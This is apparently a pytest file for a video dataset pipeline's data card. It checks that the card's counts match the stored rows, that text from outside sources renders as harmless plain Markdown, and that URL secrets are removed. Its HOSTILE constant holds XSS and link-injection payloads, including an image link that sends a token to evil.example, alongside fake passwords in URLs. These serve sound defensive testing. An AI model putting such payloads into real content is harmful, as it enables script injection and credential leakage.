"""The data card: its numbers are those of the rows, strangers' words are plain text, and it says no secret."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from pipeline.outside import shown_text
from pipeline.shards.card import distribution
from pipeline.shards.card_text import markdown_text
from pipeline.shards.manifest import card_keys, delete_other_cards
from pipeline.shards.read import current_shards
from pipeline.shards.write import write_shards
from pipeline.storage.arrow import pc
from pipeline.storage.store import Store
from tests.synthetic import CONFIG, finished_store, job_of

HOSTILE = (
    "CC-BY | <script>alert(1)</script> [x](javascript:alert(1)) ![y](http://evil.example/?token=s3cret) `a`\n# big"
)


@pytest.fixture
def done(tmp_path: Path) -> Store:
    """A store whose set is written again: half of its videos have a hostile licence and a secret in the address."""
    store = finished_store(tmp_path / "root")
    rows = store.read("videos").to_pylist()
    for number, row in enumerate(rows):
        row["licence"] = HOSTILE if number % 2 else "CC0"
        row["channel"] = HOSTILE
        row["url"] = f"http://user:pa55word@host.example/v{number}?token=s3cret"
    store.replace("videos", rows)
    write_shards(job_of(store))
    return store


def card(store: Store) -> tuple[str, dict[str, Any]]:
    text, plain = (store.read_blob(key).decode() for key in card_keys(str(current_shards(store))))
    return text, json.loads(plain)


def test_its_numbers_are_those_of_the_rows(done: Store) -> None:
    _, facts = card(done)
    kept = done.read("curated", where=pc.field("decision") == "keep").to_pylist()
    others = done.read("curated", where=pc.field("decision") != "keep").to_pylist()
    licences = {row["video_id"]: shown_text(row["licence"]) for row in done.read("videos").to_pylist()}
    assert facts["clips"] == len(kept)
    assert facts["hours"] == round(len(kept) * 16 / 3600, 3)
    assert facts["videos"] == len({row["video_id"] for row in kept})
    for split in ("train", "val", "test"):
        rows = done.read("shards", where=pc.field("split") == split).to_pylist()
        own = [row for row in kept if row["split"] == split]
        assert facts["splits"][split]["clips"] == len(own) == sum(row["samples"] for row in rows)
        assert facts["splits"][split]["bytes"] == sum(row["bytes"] for row in rows)
        assert facts["splits"][split]["tars"] == len(rows)
    assert {one["name"]: one["clips"] for one in facts["licences"]} == {
        name: sum(licences[row["video_id"]] == name for row in kept) for name in ("CC0", shown_text(HOSTILE))
    }
    assert sum(facts["left_out"]["clips"].values()) == len(others)
    assert facts["left_out"]["videos"]["rejected by the rules: negation:movie"] == 2
    assert facts["left_out"]["videos"]["download failed: not_found"] == 1
    assert facts["score"]["known"] == sum(facts["score"]["histogram"]["counts"]) == len(kept)
    assert facts["score"]["percentiles"]["100"] == round(max(row["probability"] for row in kept), 4)
    assert facts["motion"]["known"] == len(kept)
    assert facts["rules"]["decision"]["target_precision"] == CONFIG.decision.target_precision


def test_the_manifest_names_it_and_it_is_the_same_whenever_it_is_written(done: Store) -> None:
    version = str(current_shards(done))
    before = {key: done.read_blob(key) for key in done.list_blobs(f"shards/{version}")}
    manifest = json.loads(before[f"shards/{version}/manifest.json"])
    assert [one["path"] for one in manifest["cards"]] == card_keys(version)
    done.replace("shards", [])
    write_shards(job_of(done))
    assert {key: done.read_blob(key) for key in done.list_blobs(f"shards/{version}")} == before


def test_what_strangers_wrote_is_plain_text_and_no_secret_is_in_it(done: Store) -> None:
    text, facts = card(done)
    html = MarkdownIt("commonmark", {"linkify": False}).enable("table").render(text)
    assert "<table>" in html
    for tag in ("<script", "<img", "<a ", "<h1>big"):
        assert tag not in html
    assert "&lt;script&gt;" in html
    assert html.count("<h1>") == 1
    for secret in ("s3cret", "pa55word"):
        assert secret not in text
        assert secret not in json.dumps(facts)
    rows = [line for line in text.splitlines() if line.startswith("| CC")]
    assert rows
    assert all(line.replace("\\|", "").count("|") == 5 for line in rows)


@given(st.text(max_size=60))
def test_any_text_is_one_line_without_effect(text: str) -> None:
    html = MarkdownIt("commonmark").enable("table").render(f"x {markdown_text(text)} x")
    assert html.startswith("<p>x ")
    assert html.count("<") == 2


def test_an_empty_test_split_is_said_in_it(done: Store) -> None:
    config = replace(CONFIG, split=replace(CONFIG.split, test_share=0.01), shards=replace(CONFIG.shards, seed=5))
    write_shards(job_of(done, config))
    text, _ = card(done)
    assert "the test split is empty" in text


def test_cards_of_replaced_sets_can_be_deleted_at_once(done: Store) -> None:
    first = str(current_shards(done))
    second = write_shards(job_of(done, replace(CONFIG, shards=replace(CONFIG.shards, seed=5)))).version
    assert delete_other_cards(done, second) == sorted(
        key for version in {key.split("/")[1] for key in done.list_blobs("shards")} - {second}
        for key in card_keys(version) if key not in done.list_blobs("shards")
    )  # fmt: skip
    assert not set(card_keys(first)) & set(done.list_blobs("shards"))
    assert set(card_keys(second)) <= set(done.list_blobs("shards"))


@pytest.mark.parametrize("values", [[], [None, float("nan")], [0.5], [1.0, 1.0], [0.0, 1.0, None]])
def test_a_distribution_counts_every_value_once(values: list[float | None]) -> None:
    found = distribution(pa.chunked_array([pa.array(values, pa.float64())]))
    known = [value for value in values if value is not None and value == value]
    assert (found["known"], found["unknown"]) == (len(known), len(values) - len(known))
    assert sum(found.get("histogram", {"counts": []})["counts"]) == len(known)
